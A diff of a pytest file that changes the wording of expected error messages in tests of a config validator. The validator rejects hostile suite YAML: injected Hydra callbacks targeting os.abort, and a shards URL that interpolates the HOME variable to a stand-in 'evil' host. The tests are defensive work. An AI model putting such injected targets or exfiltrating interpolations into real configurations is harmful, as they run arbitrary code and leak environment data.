@@ -295,15 +295,15 @@ CALLED = "hydra:\n  callbacks:\n    x:\n      _target_: pathlib.Path.touch\n    
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        ("# @package _global_\ngrids:\n  a:\n    test: shortcut\n", "says `@package`"),
+        ("# @package _global_\ngrids:\n  a:\n    test: shortcut\n", "contains `@package`"),
         ("grids:\n  a:\n    test: shortcut\n" + CALLED, r"unknown key of suite=mine: 'hydra'\. Known: about, defaults"),
         ("grids:\n  a:\n    hydra.callbacks.x._target_: os.abort\n", r"unknown key in suite=mine: grids\.a: 'hydra\."),
         ("grids:\n  a:\n    +hydra.callbacks.x._target_: os.abort\n", r"unknown key in suite=mine: grids\.a: '\+hydra"),
-        ("grids:\n  a:\n    hydra/launcher: joblib\n", "A grid has keys of a run alone"),
+        ("grids:\n  a:\n    hydra/launcher: joblib\n", "A grid has only keys of a run"),
         ("grids:\n  a:\n    test=shortcut hydra.x: 1\n", "unknown key in suite=mine"),
         ("grids:\n  a:\n    suite: smoke\n", "unknown key in suite=mine: grids.a: 'suite'"),
         ("grids:\n  a:\n    tests: shortcut\n", "did you mean test"),
-        ("grids:\n  a:\n    shards: https://evil/${oc.env:HOME}\n", "in which .* stands for nothing"),
+        ("grids:\n  a:\n    shards: https://evil/${oc.env:HOME}\n", "in which .* is not resolved"),
         ("grids:\n  a:\n    measure: {cka: {_target_: os.abort}}\n", "expected a value or a list of values"),
         ("grids:\n  a:\n    test: [shortcut, augmentation]\n", "a run has one test"),
         ("defaults: [mine]\ngrids:\n  a:\n    test: shortcut\n", "suite=mine: mine includes mine, which never ends"),
@@ -332,7 +332,7 @@ def test_no_command_calls_what_a_suite_names(
     )
     at = 1 if words[0] == "plan" else 0
     assert run_command([*words[:at], "--config-dir", str(tmp_path), *words[at:]]) == 2
-    assert "says `@package`" in capsys.readouterr().err
+    assert "contains `@package`" in capsys.readouterr().err
     assert not (tmp_path / "called").exists()
 
 
